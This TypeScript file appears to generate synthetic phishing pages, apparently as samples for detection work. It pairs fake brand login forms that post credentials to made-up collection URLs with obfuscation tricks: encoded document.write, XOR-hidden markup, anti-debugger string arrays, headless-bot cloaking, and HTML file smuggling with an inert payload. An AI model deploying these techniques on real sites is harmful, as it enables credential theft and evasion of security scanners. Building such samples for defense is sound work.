/** Phishing whose markup a script decodes, and files that a script assembles. */
import {
  ascii,
  base64,
  cut,
  escapes,
  percent,
  shifted,
  sixCharacters,
  stringArray,
  xored,
} from '../encode.ts';
import { bare, css, script, times } from '../layout.ts';
import { type Builders, pages, type Spot } from '../spot.ts';

const gate = ({ r }: Spot) =>
  `https://${r.id(9).toLowerCase()}-mail.${r.pick(['top', 'icu', 'cfd'])}/${r.id(4)}.php`;

/** The hidden form. */
const form = (s: Spot) =>
  ascii(
    `<style>${css(s, 8)}</style><div class="card"><img src="https://logo.clearbit.com/${s.name.split(' ')[0]?.toLowerCase()}.com"><h2>${s.name}</h2><p>${s.w.alert}</p><form method="post" action="${gate(s)}"><input name="login" placeholder="${s.w.email}"><input type="password" name="pass" placeholder="${s.w.password}"><button>${s.w.login}</button></form></div>`,
  );

const shell = (s: Spot, body: string, title = '') =>
  bare(s, title, `<meta name="robots" content="noindex"><style>${css(s, 18)}</style>`, body);

const drop = (s: Spot, file: string, type: string) =>
  script(
    `var b="${base64(`inert ${file}`)}${s.r.base64(s.r.int(2000, 9000))}";function go(){var s=atob(b),n=s.length,u=new Uint8Array(n);while(n--)u[n]=s.charCodeAt(n);var f=new Blob([u],{type:"${type}"});if(navigator.msSaveOrOpenBlob)return navigator.msSaveOrOpenBlob(f,"${file}");var a=document.createElement("a");a.style.display="none";a.href=URL.createObjectURL(f);a.download="${file}";document.body.appendChild(a);a.click()}setTimeout(go,${s.r.int(1, 9)}00);`,
  );

export const encoded: Builders = {
  'base64-document': pages(
    `en https://storage-view-31.web.app/voicemail.htm Microsoft Outlook
    de https://anhang-ansicht.pages.dev/rechnung.htm DHL Express
    fr https://facture-4412.netlify.app/ Orange Messagerie`,
    (s) => shell(s, script(`document.open();document.write(atob("${base64(form(s))}"));document.close();`)),
  ),
  'percent-document': pages(
    `en http://cranmer-tiles.com/wp-content/uploads/secure.html PayPal account
    es http://ferreteria-sol.com.mx/tmp/inicio.html Banamex BancaNet
    pt http://radio-aurora.com.br/x/ Itaú Internet`,
    (s) =>
      `<html><head><script language=javascript>document.write(unescape('${percent(form(s))}'))</script></head><body></body></html>`,
  ),
  'character-arithmetic': pages(
    `en https://files-secure-99.glitch.me/open.html Adobe PDF
    it https://posta-sicura.surge.sh/ Aruba Webmail
    ja https://doc-open-jp.pages.dev/ Amazon ログイン`,
    (s) => {
      const by = s.r.int(7, 90);
      return shell(
        s,
        script(
          `var ${s.r.name()}1=0;for(var z=0;z<${s.r.digits(4)};z++){${s.r.name()}2=z*${s.r.int(2, 9)}%7}var q=[${shifted(form(s), by)}],o="";for(var i=0;i<q.length;i++){o+=String.fromCharCode(q[i]-(${by + 11}-11))}document["wr"+"ite"](o);`,
        ),
        s.name,
      );
    },
  ),
  'encrypted-strings': pages(
    `en https://auth-portal-v2.workers.dev/ Sign in
    en https://fileview-sso.cfd/m365 Microsoft
    tr https://e-devlet-giris.click/ e-Devlet Kapısı`,
    (s) => {
      const strings = [
        form(s),
        'innerHTML',
        'body',
        'addEventListener',
        'submit',
        'keydown',
        gate(s),
        'POST',
        'preventDefault',
      ];
      return shell(
        s,
        script(
          stringArray(
            s.r,
            strings,
            (read) =>
              `(function(){var _0xd=document;_0xd[${read('body')}][${read('innerHTML')}]=${read(strings[0] as string)};_0xd[${read('addEventListener')}](${read('submit')},function(_0xe){_0xe[${read('preventDefault')}]();fetch(${read(strings[6] as string)},{'method':${read('POST')},'body':new FormData(_0xe['target'])});});setInterval(function(){(function(){return!![];}['constructor']('debu'+'gger')['call']('action'));},0xfa0);}());`,
          ),
        ),
        s.name,
      );
    },
  ),
  'six-characters': pages(
    `en https://go-inbox-sync.click/a8 Loading
    de https://weiter-zum-login.icu/k Bitte warten
    en http://hotel-aurora-bled.com/wp-content/cache/p.html Redirecting`,
    (s) =>
      shell(
        s,
        script(
          `[][${sixCharacters('flat')}][${sixCharacters('constructor')}](${sixCharacters(`location="//${s.r.id(6).toLowerCase()}.cfd"`)})()`,
        ),
        s.name,
      ),
  ),
  'hidden-data': pages(
    `en https://invoice-preview.azurewebsites.net/view Invoice
    nl https://factuur-inzien.web.app/ Factuur
    zh https://fapiao-chakan.pages.dev/ 查看发票`,
    (s) => {
      const key = s.r.id(8);
      return shell(
        s,
        `<div id="root" style="display:none" data-v="${xored(form(s) + times(8, () => `<!--${s.r.id(120)}-->`, ''), key)}"></div><textarea hidden>${s.r.base64(800)}</textarea>${script(`const e=document.getElementById("root"),k="${key}";let h="";for(let i=0,d=e.dataset.v;i<d.length;i+=2)h+=String.fromCharCode(parseInt(d.substr(i,2),16)^k.charCodeAt(i/2%k.length));document.documentElement.innerHTML=h;`)}`,
        s.name,
      );
    },
  ),
  'reversed-text': pages(
    `en https://verify-banking-id.site/ Bank of America
    fr https://credit-mutuel-acces.click/ Crédit Mutuel
    pl https://pko-potwierdz.icu/ PKO BP iPKO`,
    (s) =>
      shell(
        s,
        `<div id="x"></div>${script(`var t="${base64(form(s)).split('').reverse().join('')}";x.innerHTML=window["\\x61\\x74\\x6f\\x62"](t.split("").reverse().join(""));`)}<p>${[...`${s.w.login} ${s.w.password}`].join('&#8203;')}</p><span dir="rtl" style="unicode-bidi:bidi-override">${[...s.name].reverse().join('')}</span>`,
        s.name,
      ),
  ),
  'escaped-eval': pages(
    `en http://198.51.100.24/~upd/acc/ eBay sign in
    ru http://vk-login-com.narod.ru/ ВКонтакте
    es http://hotmail-es.iespana.es/ Hotmail`,
    (s) =>
      shell(
        s,
        `${script(`eval("${escapes(`document.write('${form(s).replaceAll("'", '')}')`)}")`)}<noscript>JavaScript</noscript>`,
        s.name,
      ),
  ),
  'decrypted-with-key': pages(
    `en https://ipfs-doc.dweb.link/ipfs/bafybeih Secure message
    de https://nachricht-sicher.b-cdn.net/ Sichere Nachricht
    pt https://mensagem-segura.fly.dev/ Mensagem`,
    (s) =>
      shell(
        s,
        `<script src="https://cdnjs.cloudflare.com/ajax/libs/crypto-js/4.1.1/crypto-js.min.js"></script>${script(`var c="${s.r.base64(3000)}",k=CryptoJS.enc.Hex.parse("${s.r.hex(32)}"),v=CryptoJS.enc.Hex.parse("${s.r.hex(32)}");var h=CryptoJS.AES.decrypt(c,k,{iv:v}).toString(CryptoJS.enc.Utf8);if(!/HeadlessChrome|bot/i.test(navigator.userAgent)){document.write(h);var u=${cut(gate(s))};window.onsubmit=function(e){fetch(u,{method:"POST",body:new FormData(e.target)})}}`)}`,
        `${s.name} - Outlook`,
      ),
  ),
  'frame-of-data': pages(
    `en https://portal-sso-edge.z13.web.core.windows.net/ Outlook
    it https://accesso-inps.online/ INPS
    ar https://bank-verify-ar.online/ مصرف الراجحي`,
    (s) =>
      shell(
        s,
        `<iframe style="position:fixed;inset:0;width:100%;height:100%;border:0" src="data:text/html;base64,${base64(form(s))}"></iframe>${script('document.addEventListener("contextmenu",e=>e.preventDefault())')}<!--${s.r.base64(500)}-->`,
        s.name,
      ),
  ),
  'smuggled-file': pages(
    `en https://docs-delivery.r2.dev/scan.html Scanned_Contract.zip
    de https://paketlabel-druck.pages.dev/ Versandetikett.iso
    es https://factura-electronica.mooo.com/ Factura_8812.js`,
    (s) =>
      shell(
        s,
        `<div class="card"><h3>${s.name}</h3><p>${s.say()}</p><p>Password: ${s.r.digits(4)}</p></div>${drop(s, s.name, s.n ? 'application/octet-stream' : 'application/zip')}`,
        s.name,
      ),
  ),
};
